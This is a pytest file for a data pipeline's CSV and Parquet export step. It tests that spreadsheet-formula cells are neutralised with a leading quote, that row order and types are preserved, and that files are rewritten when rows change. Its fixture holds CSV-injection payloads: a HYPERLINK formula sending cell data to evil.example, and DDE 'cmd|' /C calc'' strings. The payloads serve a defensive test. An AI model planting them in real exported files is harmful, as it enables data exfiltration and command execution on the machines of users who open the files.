"""The downloads (pipeline/defs/render.py, `exports`): CSV files safe to open in a spreadsheet, Parquet files as
the view holds them, and a view's files rewritten whenever its rows change, whatever the run selected."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import dagster as dg
import duckdb
import pytest
from dagster_duckdb import DuckDBResource

from pipeline.config import paths
from pipeline.defs import render
from pipeline.defs.render import FINGERPRINT_KEY, csv_select_list, exports, write_view
from pipeline.defs.resources import AtlasPaths

VIEW = "hostile"  # not in the contract: no declared key (sorted by every column), written as Parquet and CSV
# (offering, note, provider): text a snapshot could carry
TEXTS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"H100")', "=1+1", "lambda"),
    ("+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "evil"),
    ("-5", "-2+3+cmd|' /C calc'!A0", "\tTAB first"),
    ("\rCR first", "\nnewline first", "@provider"),
    ("(a", "=b", "plain"),  # by value "(a" sorts before "+1...", "-5", "=H...", by quoted text after them
    ("H100 SXM", "a=b, c+d, e-f, g@h", " =space first"),
    ("'already quoted", "", None),
]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def make_view(con: duckdb.DuckDBPyConnection) -> None:
    """A table of hostile text beside numbers (some negative), a date and a list, and a view over it."""
    rows = [
        (offering, note, provider, -1.5 * i, -i, dt.date(2026, 1, 1 + i), [offering, "=x"])
        for i, (offering, note, provider) in enumerate(TEXTS)
    ]
    con.execute(
        "create table offers (offering varchar, note varchar, provider varchar, usd_per_hour double, "
        "delta integer, observed_on date, tags varchar[])"
    )
    con.executemany("insert into offers values (?, ?, ?, ?, ?, ?, ?)", rows)
    con.execute(f"create view {VIEW} as select * from offers")


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.fixture
def written(tmp_path):
    """The view's downloads, and the same view copied to CSV as it is (no quoting), in the same order."""
    con = duckdb.connect(str(tmp_path / "atlas.duckdb"))
    make_view(con)
    out = tmp_path / "downloads"
    out.mkdir()
    assert write_view(con, VIEW, out)
    plain = tmp_path / "plain.csv"
    con.execute(f"copy (select * from {VIEW} order by all) to '{plain}' (header)")
    yield con, out, plain
    con.close()


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(written):
    """A text cell that begins with =, +, -, @, a tab or a return gets a leading ': "-5" as text too (text is
    text); every other cell is as DuckDB writes it: numbers (negative ones too), dates, lists, text that
    merely contains those characters or begins with a space or a quote, empty text and NULL."""
    con, out, plain = written
    header, *rows = read_csv(out / f"{VIEW}.csv")
    plain_header, *plain_rows = read_csv(plain)
    assert header == plain_header == [name for name, *_ in con.execute(f"describe {VIEW}").fetchall()]
    assert len(rows) == len(plain_rows) == len(TEXTS)
    text_columns = {"offering", "note", "provider"}
    quoted = 0
    for row, plain_row in zip(rows, plain_rows, strict=True):  # same order: sorted by the values
        for column, cell, value in zip(header, row, plain_row, strict=True):
            if column in text_columns and value.startswith(RISKY):
                assert cell == "'" + value
                quoted += 1
            else:
                assert cell == value, (column, cell, value)
    assert quoted == 10
    by_offering = {row[0]: row for row in rows}
    assert by_offering["'-5"][1] == "'-2+3+cmd|' /C calc'!A0" and by_offering["'-5"][2] == "'\tTAB first"
    assert by_offering["H100 SXM"][1:3] == ["a=b, c+d, e-f, g@h", " =space first"]
    assert by_offering["'already quoted"][1:3] == ["", ""]
    # numbers, dates and lists are left alone: a negative number is a number
    assert by_offering["'-5"][3:6] == ["-3.0", "-2", "2026-01-03"]
    assert all(row[6].startswith("[") and "=x" in row[6] for row in rows)  # a list begins with "["


def test_the_csv_keeps_the_rows_in_the_parquet_order(written):
    """Rows are sorted by their values, not by their quoted text ("'+1..." would sort before "(a")."""
    con, out, _ = written
    parquet = con.execute(f"select offering, note from '{out / VIEW}.parquet'").fetchall()
    assert parquet == con.execute(f"select offering, note from {VIEW} order by all").fetchall()
    rows = read_csv(out / f"{VIEW}.csv")[1:]
    assert [row[0] for row in rows] == [
        "'\rCR first",
        "'already quoted",
        "(a",
        "'+1+cmd|' /C calc'!A0",
        "'-5",
        '\'=HYPERLINK("http://evil.example/?"&A1,"H100")',
        "H100 SXM",
    ]
    unquote = lambda cell: cell[1:] if cell[:1] == "'" and cell[1:].startswith(RISKY) else cell  # noqa: E731
    assert [(unquote(row[0]), unquote(row[1])) for row in rows] == parquet


def test_parquet_keeps_the_values_and_types(written):
    con, out, _ = written
    path = f"'{out / VIEW}.parquet'"
    assert (
        con.execute(f"select * from {path}").fetchall() == con.execute(f"select * from {VIEW} order by all").fetchall()
    )
    types = lambda relation: [(n, t) for n, t, *_ in con.execute(f"describe {relation}").fetchall()]  # noqa: E731
    assert types(f"select * from {path}") == types(VIEW)
    assert con.execute(f"select count(*) from {path} where offering like '''%'").fetchone() == (1,)


def test_csv_select_list_keeps_names_order_and_other_types():
    columns = [("gpu id", "VARCHAR"), ("usd", "DOUBLE"), ('say "hi"', "VARCHAR"), ("tags", "VARCHAR[]")]
    select = csv_select_list(columns, "v")
    assert select.count("case when") == 2
    assert 'v."usd" as "usd"' in select and 'v."tags" as "tags"' in select
    con = duckdb.connect()
    con.execute('create table t ("gpu id" varchar, usd double, "say ""hi""" varchar, tags varchar[])')
    con.execute("insert into t values ('@x', -1, '+y', ['=z']), (NULL, NULL, NULL, NULL)")
    cur = con.execute(f"select {select} from t as v")
    assert [d[0] for d in cur.description] == [name for name, _ in columns]
    assert cur.fetchall() == [("'@x", -1.0, "'+y", ["=z"]), (None, None, None, None)]


def test_a_view_is_written_again_when_its_rows_change(written):
    """Its files are rewritten when a row changes, when a file is missing, or when the Parquet file records no
    fingerprint (an older build's); left as they are (same bytes, same time) when nothing changed."""
    con, out, _ = written
    files = [out / f"{VIEW}.parquet", out / f"{VIEW}.csv"]
    meta = con.execute(f"select key::varchar from parquet_kv_metadata('{files[0]}')").fetchall()
    assert (FINGERPRINT_KEY,) in meta
    stamps = [f.stat().st_mtime_ns for f in files]
    assert not write_view(con, VIEW, out)
    assert [f.stat().st_mtime_ns for f in files] == stamps
    con.execute("update offers set usd_per_hour = usd_per_hour * 1.1 where offering = 'H100 SXM'")
    assert write_view(con, VIEW, out)
    assert "-8.25" in files[1].read_text(encoding="utf-8")  # -7.5 * 1.1
    files[1].unlink()
    assert write_view(con, VIEW, out) and files[1].is_file()
    con.execute(f"copy (select * from {VIEW}) to '{files[0]}' (format parquet)")  # no fingerprint
    assert write_view(con, VIEW, out)
    assert not write_view(con, VIEW, out)


def test_exports_rewrites_a_changed_view_whatever_the_run_selected(tmp_path, monkeypatch):
    """A run that selects `exports` alone (none of the tables the view reads) still rewrites the files of a view
    whose rows changed since the last run: the decision is the rows', not the run selection's."""
    monkeypatch.setattr(render, "VIEWS", {VIEW: ("an offer", "hostile text")})
    db = tmp_path / "atlas.duckdb"
    with duckdb.connect(str(db)) as con:
        make_view(con)
    out = tmp_path / "downloads"
    p = paths()
    resources = {
        "database": DuckDBResource(database=str(db)),
        "atlas_paths": AtlasPaths(
            sources_dir=str(tmp_path),
            exports_dir=str(out),
            handwritten_dir=str(p.handwritten),
            mkdocs_config=str(p.mkdocs_config),
        ),
    }

    def run() -> dict:
        result = dg.materialize([exports], resources=resources, selection=[exports.key])
        assert result.success
        (event,) = result.get_asset_materialization_events()
        return {k: v.value for k, v in event.materialization.metadata.items()}

    assert run()["views_written"] == 1
    assert run()["views_written"] == 0  # nothing changed
    with duckdb.connect(str(db)) as con:
        con.execute("update offers set usd_per_hour = 99.5 where offering = 'H100 SXM'")
    assert run()["views_written"] == 1
    assert "99.5" in (out / f"{VIEW}.csv").read_text(encoding="utf-8")
    with duckdb.connect(str(out / "gpu_atlas.duckdb"), read_only=True) as con:
        assert con.execute(f"select max(usd_per_hour) from {VIEW}").fetchone() == (99.5,)
